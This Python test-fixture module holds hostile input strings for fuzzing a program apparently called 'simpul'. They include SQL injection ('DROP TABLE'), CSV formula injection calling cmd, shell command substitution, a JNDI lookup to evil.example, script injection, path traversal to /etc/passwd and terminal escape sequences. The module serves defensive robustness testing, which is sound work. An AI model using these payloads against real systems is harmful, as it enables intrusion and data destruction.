"""Values that are meant to hurt: a list of our own, beside the published one that is never committed."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Final

Vectors = Callable[[str], Path]

OWN: Final[dict[str, str]] = {
    "empty": "",
    "a blank": " ",
    "a newline": "CHEN\nLI",
    "a tab": "CHEN\tLI",
    "control C0": "CHEN\x01\x07\x08LI",
    "escape sequence": "\x1b[2J\x1b[31mCHEN\x1b]0;title\x07",
    "hyperlink sequence": "\x1b]8;;http://evil.example\x07CHEN\x1b]8;;\x07",
    "control C1": "CHEN\x9b2J\x85LI",
    "delete": "CHEN\x7fLI",
    "bidi override": "\u202eGNIMOAIX NEHC",
    "bidi isolate": "CHEN \u2066\u2067XIAOMING",
    "zero width": "CH\u200bEN\u200d\ufeff LI",
    "line separator": "CHEN\u2028LI\u2029",
    "half of a character": "CHEN \ud83d LI",
    "an undecodable byte": "CHEN \udcff LI",
    "a tag character": "CHEN\U000e0041LI",
    "private use": "CHEN\ue000LI",
    "not a character": "CHEN\uffffLI",
    "10,000 characters": "A" * 10_000,
    "10,000 words": "LI " * 10_000,
    "10,000 digits": "9" * 10_000,
    "combining storm": "A" + "\u0301" * 500 + "B" + "\u0489" * 300,
    "SQL": "'; DROP TABLE simpul.log_entry; --",
    "SQL of a number": "1 OR 1=1",
    "CSV formula": "=cmd|'/C calc'!A0",
    "CSV formula, at sign": '@SUM(1+1)*cmd|"/C calc"!A0',
    "shell": "$(touch /tmp/simpul-was-here)`touch /tmp/simpul-was-here`",
    "markup": "[bold red]CHEN[/] [/] [link=http://evil.example]x[/link]",
    "markup never opened": "CHEN [/bold] LI",
    "template": "{0.__class__} %s %n ${jndi:ldap://evil.example} {{7*7}}",
    "HTML": "<script>alert(1)</script>",
    "path": "../../../../etc/passwd",
    "an option": "--help",
    "date of zeros": "0000-00-00",
    "date of nines": "9999-99-99",
    "30 February": "2024-02-30",
    "year 10000": "10000-01-01",
    "year 9999": "9999-12-31",
    "other digits": "١٢-٠٣-١٩٨٦",
    "superscript digits": "¹²-³-¹⁹⁸⁶",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "look-alike letters": "СНЕN ХІАОМІNG",
    "right to left": "محمد بن سلمان",
    "upper case of several letters": "ßﬃŉΐ",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈",
}
NUL: Final = "CHEN\x00LI"  # an argument of a process cannot hold it, a file can


def naughty(vectors: Vectors) -> list[str]:
    """The published list of naughty strings; the test is skipped where it is absent."""
    found: list[str] = json.loads(vectors("naughty_strings/blns.json").read_text(encoding="utf-8"))
    return found


def acting(text: str, keep: str = "\n") -> list[str]:
    """The characters of an output that could act on whoever looks at it."""
    unseen = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
    return sorted({hex(ord(c)) for c in text if c not in keep and unicodedata.category(c) in unseen})
